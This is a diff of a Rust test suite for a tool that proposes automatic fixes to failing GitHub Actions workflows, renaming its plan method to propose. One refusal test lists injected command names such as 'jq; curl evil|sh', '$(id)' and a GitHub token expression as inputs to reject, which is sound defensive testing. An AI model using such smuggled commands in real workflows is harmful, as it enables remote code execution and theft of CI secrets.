@@ -106,8 +106,8 @@ impl<'a> Run<'a> {
         }
     }
 
-    fn plan(&self, f: &Facts) -> Result<Fix, Unfixable> {
-        plan(&Input {
+    fn propose(&self, f: &Facts) -> Result<Fix, Unfixable> {
+        propose(&Input {
             facts: f,
             workflow_path: ".github/workflows/ci.yml",
             workflow: self.wf,
@@ -120,7 +120,7 @@ impl<'a> Run<'a> {
 }
 
 fn fixed(wf: &str, f: &Facts) -> Fix {
-    match Run::new(wf).plan(f) {
+    match Run::new(wf).propose(&f) {
         Ok(fix) => fix,
         Err(e) => panic!("no fix: {e}"),
     }
@@ -215,7 +215,7 @@ fn dependency_goes_into_the_requirements_file_the_job_installs() {
         "requirements/build.txt".into(),
         "# via pip-compile\nbuild==0.10.0\n".into(),
     );
-    let fix = run.plan(&f).expect("fix");
+    let fix = run.propose(&f).expect("fix");
     assert_eq!(fix.files.len(), 1, "{fix:?}");
     assert_eq!(fix.files[0].path, "requirements/build.txt");
     assert_eq!(
@@ -226,7 +226,7 @@ fn dependency_goes_into_the_requirements_file_the_job_installs() {
     // Already listed: nothing to add.
     run.files
         .insert("requirements/build.txt".into(), "pyyaml==6.0\n".into());
-    assert!(err_text(run.plan(&f)).contains("already listed"));
+    assert!(err_text(run.propose(&f)).contains("already listed"));
 }
 
 #[test]
@@ -252,9 +252,9 @@ fn dependency_is_added_to_the_install_command_when_the_file_is_unknown() {
 #[test]
 fn dependency_through_tox_is_left_to_the_tox_config() {
     let f = missing_module("yaml", "build (3.9, ubuntu-latest)", "Unit tests");
-    assert!(err_text(Run::new(BLACK).plan(&f)).contains("tox"));
+    assert!(err_text(Run::new(BLACK).propose(&f)).contains("tox"));
     let f = missing_module("yaml", "tests / 3.8 / Ubuntu", "Run unit tests");
-    assert!(err_text(Run::new(PIP).plan(&f)).contains("tox"));
+    assert!(err_text(Run::new(PIP).propose(&f)).contains("tox"));
 }
 
 #[test]
@@ -264,7 +264,7 @@ fn dependency_already_installed_is_not_fixed_again() {
     // ruff is not in the table: the repository's own files name it.
     run.files
         .insert("requirements-lint.txt".into(), "ruff==0.5\n".into());
-    assert!(err_text(run.plan(&f)).contains("already installed"));
+    assert!(err_text(run.propose(&f)).contains("already installed"));
 }
 
 #[test]
@@ -279,7 +279,7 @@ fn hostile_package_names_are_refused() {
         &"x".repeat(300),
     ] {
         let f = missing_module(hostile, "build (3.10, ubuntu-18.04)", "Run tests");
-        match Run::new(REQUESTS).plan(&f) {
+        match Run::new(REQUESTS).propose(&f) {
             Err(Unfixable::Unsafe(_)) => {}
             other => panic!("{hostile:?} was not refused: {other:?}"),
         }
@@ -295,14 +295,14 @@ fn hostile_package_names_are_refused() {
 #[test]
 fn the_repositorys_own_package_is_not_installed_from_pypi() {
     let f = missing_module("octo_repo", "build (3.10, ubuntu-18.04)", "Run tests");
-    assert!(err_text(Run::new(REQUESTS).plan(&f)).contains("cannot tell which package"));
+    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("cannot tell which package"));
     // Even when a requirements file names it.
     let mut run = Run::new(REQUESTS);
     run.files
         .insert("requirements.txt".into(), "octo-repo @ file:.\n".into());
-    assert!(err_text(run.plan(&f)).contains("repository's own"));
+    assert!(err_text(run.propose(&f)).contains("repository's own"));
     let f = missing_module("src", "build (3.10, ubuntu-18.04)", "Run tests");
-    assert!(err_text(Run::new(REQUESTS).plan(&f)).contains("repository's own"));
+    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("repository's own"));
 }
 
 // --- missing-command -----------------------------------------------------------
@@ -354,11 +354,11 @@ fn missing_command_maps_to_its_package() {
 fn missing_command_refusals() {
     let run = Run::new(TOOLS);
     assert!(
-        err_text(run.plan(&missing_command("jq", "windows", Some("Run jq --version"))))
+        err_text(run.propose(&missing_command("jq", "windows", Some("Run jq --version"))))
             .contains("Windows")
     );
     assert!(
-        err_text(run.plan(&missing_command(
+        err_text(run.propose(&missing_command(
             "jq",
             "in-container",
             Some("Run jq --version")
@@ -367,31 +367,32 @@ fn missing_command_refusals() {
     );
     let fetch = Some("Fetch latest release");
     assert!(
-        err_text(run.plan(&missing_command("frobnicate", "release-notes", fetch)))
+        err_text(run.propose(&missing_command("frobnicate", "release-notes", fetch)))
             .contains("no known package")
     );
     assert!(
-        err_text(run.plan(&missing_command("node", "release-notes", fetch))).contains("setup-node")
+        err_text(run.propose(&missing_command("node", "release-notes", fetch)))
+            .contains("setup-node")
     );
     for hostile in ["jq; curl evil|sh", "$(id)", "${{ github.token }}", "jq\nx"] {
-        match run.plan(&missing_command(hostile, "release-notes", fetch)) {
+        match run.propose(&missing_command(hostile, "release-notes", fetch)) {
             Err(Unfixable::Unsafe(_)) => {}
             other => panic!("{hostile:?} was not refused: {other:?}"),
         }
     }
     // `runs-on: ${{ matrix.os }}-latest` cannot be resolved to an OS.
     let f = missing_command("jq", "tests / 3.8 / Ubuntu", Some("Run unit tests"));
-    assert!(err_text(Run::new(PIP).plan(&f)).contains("operating system"));
+    assert!(err_text(Run::new(PIP).propose(&f)).contains("operating system"));
 }
 
 #[test]
 fn edits_through_shared_anchors_are_refused() {
     // The docs steps are shared with docs-nightly through an alias.
     let f = missing_command("make", "docs", Some("Run make -C docs html"));
-    let e = err_text(Run::new(ANCHORS).plan(&f));
+    let e = err_text(Run::new(ANCHORS).propose(&f));
     assert!(e.contains("anchor"), "{e}");
     let f = missing_command("make", "docs-nightly", Some("Run make -C docs html"));
-    assert!(Run::new(ANCHORS).plan(&f).is_err());
+    assert!(Run::new(ANCHORS).propose(&f).is_err());
 }
 
 // --- timeout -------------------------------------------------------------------
@@ -455,12 +456,16 @@ fn timeout_is_added_where_missing() {
 fn timeout_at_the_limit_or_from_a_tool_is_not_raised() {
     let wf = REQUESTS.replace("timeout-minutes: 10", "timeout-minutes: 360");
     assert!(
-        err_text(Run::new(&wf).plan(&timed_out("build (3.9, macOS-latest)", Some(21600), "360")))
-            .contains("360")
+        err_text(Run::new(&wf).propose(&timed_out(
+            "build (3.9, macOS-latest)",
+            Some(21600),
+            "360"
+        )))
+        .contains("360")
     );
     let mut f = timed_out("build (3.9, macOS-latest)", Some(600), "10");
     f.failures[0].rule = "go-test-timeout".into();
-    assert!(err_text(Run::new(REQUESTS).plan(&f)).contains("tool's own"));
+    assert!(err_text(Run::new(REQUESTS).propose(&f)).contains("tool's own"));
 }
 
 #[test]
@@ -547,7 +552,7 @@ fn hostile_paths_are_refused() {
         "a b",
     ] {
         let f = missing_file(hostile, "test", "Tests");
-        match Run::new(ANCHORS).plan(&f) {
+        match Run::new(ANCHORS).propose(&f) {
             Err(Unfixable::Unsafe(_)) => {}
             other => panic!("{hostile:?} was not refused: {other:?}"),
         }
@@ -624,7 +629,7 @@ fn optional_jobs_may_fail() {
     assert!(new.contains("    runs-on: ubuntu-latest\n    continue-on-error: ${{ contains(matrix.arch, 'arm64') }}\n    strategy:"), "{new}");
     // Other jobs have no fix for test failures.
     assert!(matches!(
-        Run::new(TOOLS).plan(&test_failure("build (amd64)")),
+        Run::new(TOOLS).propose(&test_failure("build (amd64)")),
         Err(Unfixable::NoFix(Category::Test))
     ));
 }
@@ -634,7 +639,7 @@ fn optional_jobs_may_fail() {
 #[test]
 fn reusable_workflow_calls_are_refused() {
     let f = missing_module("yaml", "provenance / generator", "Run python -m build");
-    let e = err_text(Run::new(FLASK_PUBLISH).plan(&f));
+    let e = err_text(Run::new(FLASK_PUBLISH).propose(&f));
     assert!(e.contains("reusable workflow"), "{e}");
 }
 
@@ -659,7 +664,7 @@ fn the_fix_follows_the_workflow_to_the_default_branch() {
     run.failing = Some(ANCHORS);
     let mut f = missing_file("data/fixtures.json", "test", "Tests");
     f.step_number = Some(5);
-    let fix = run.plan(&f).expect("fix");
+    let fix = run.propose(&f).expect("fix");
     let new = after(&fix, &current, 0);
     assert!(
         new.contains("      - name: Tests\n        if: hashFiles("),
@@ -673,7 +678,7 @@ fn the_fix_follows_the_workflow_to_the_default_branch() {
     );
     let mut run = Run::new(&gone);
     run.failing = Some(ANCHORS);
-    assert!(err_text(run.plan(&f)).contains("no longer exists"));
+    assert!(err_text(run.propose(&f)).contains("no longer exists"));
 }
 
 #[test]
@@ -681,11 +686,11 @@ fn job_override_and_single_job_workflows() {
     let mut f = missing_file("data/x.json", "whatever", "Tests");
     let mut run = Run::new(ANCHORS);
     run.job = Some("test");
-    assert_eq!(run.plan(&f).map(|fix| fix.job), Ok(Some("test".into())));
+    assert_eq!(run.propose(&f).map(|fix| fix.job), Ok(Some("test".into())));
     f.job = None;
     let wf = "on: push\njobs:\n  only:\n    runs-on: ubuntu-latest\n    steps:\n      - name: Tests\n        run: pytest\n";
     assert_eq!(
-        Run::new(wf).plan(&f).map(|fix| fix.job),
+        Run::new(wf).propose(&f).map(|fix| fix.job),
         Ok(Some("only".into()))
     );
 }
@@ -743,11 +748,11 @@ fn a_misindented_key_is_lined_up() {
 #[test]
 fn valid_workflows_have_no_syntax_fix() {
     assert!(
-        err_text(Run::new(REQUESTS).plan(&syntax("The workflow is not valid.")))
+        err_text(Run::new(REQUESTS).propose(&syntax("The workflow is not valid.")))
             .contains("no mechanical repair")
     );
     let broken = "on: push\njobs:\n  a: [\n";
-    assert!(Run::new(broken).plan(&syntax("x")).is_err());
+    assert!(Run::new(broken).propose(&syntax("x")).is_err());
 }
 
 // --- every fixture, every job ------------------------------------------------------
@@ -786,7 +791,7 @@ fn every_fix_on_every_fixture_keeps_the_rest_of_the_file() {
                 cases.push(rate_limited(&job.key, s));
             }
             for f in cases {
-                match run.plan(&f) {
+                match run.propose(&f) {
                     Ok(fix) => {
                         made += 1;
                         for file in &fix.files {
@@ -980,7 +985,7 @@ proptest::proptest! {
             test_failure("build (arm64)"),
         ];
         for f in &cases {
-            let Ok(fix) = Run::new(&text).plan(f) else { continue };
+            let Ok(fix) = Run::new(&text).propose(&f) else { continue };
             let Some(new) = fix.new_text(".github/workflows/ci.yml") else { continue };
             proptest::prop_assert!(
                 serde_yaml::from_str::<serde_yaml::Value>(new).is_ok(),
@@ -1045,7 +1050,7 @@ proptest::proptest! {
         let first = if install { format!("{prefix} pip install {line}") } else { format!("{prefix}{line}") };
         let wf = python_workflow_with_line(&first);
         let f = missing_module("yaml", "test", "Tests");
-        if let Ok(fix) = Run::new(&wf).plan(&f) {
+        if let Ok(fix) = Run::new(&wf).propose(&f) {
             let new = fix.new_text(".github/workflows/ci.yml").unwrap_or(&wf);
             proptest::prop_assert!(serde_yaml::from_str::<serde_yaml::Value>(new).is_ok(), "{new}");
             preserved(&wf, new, 1);
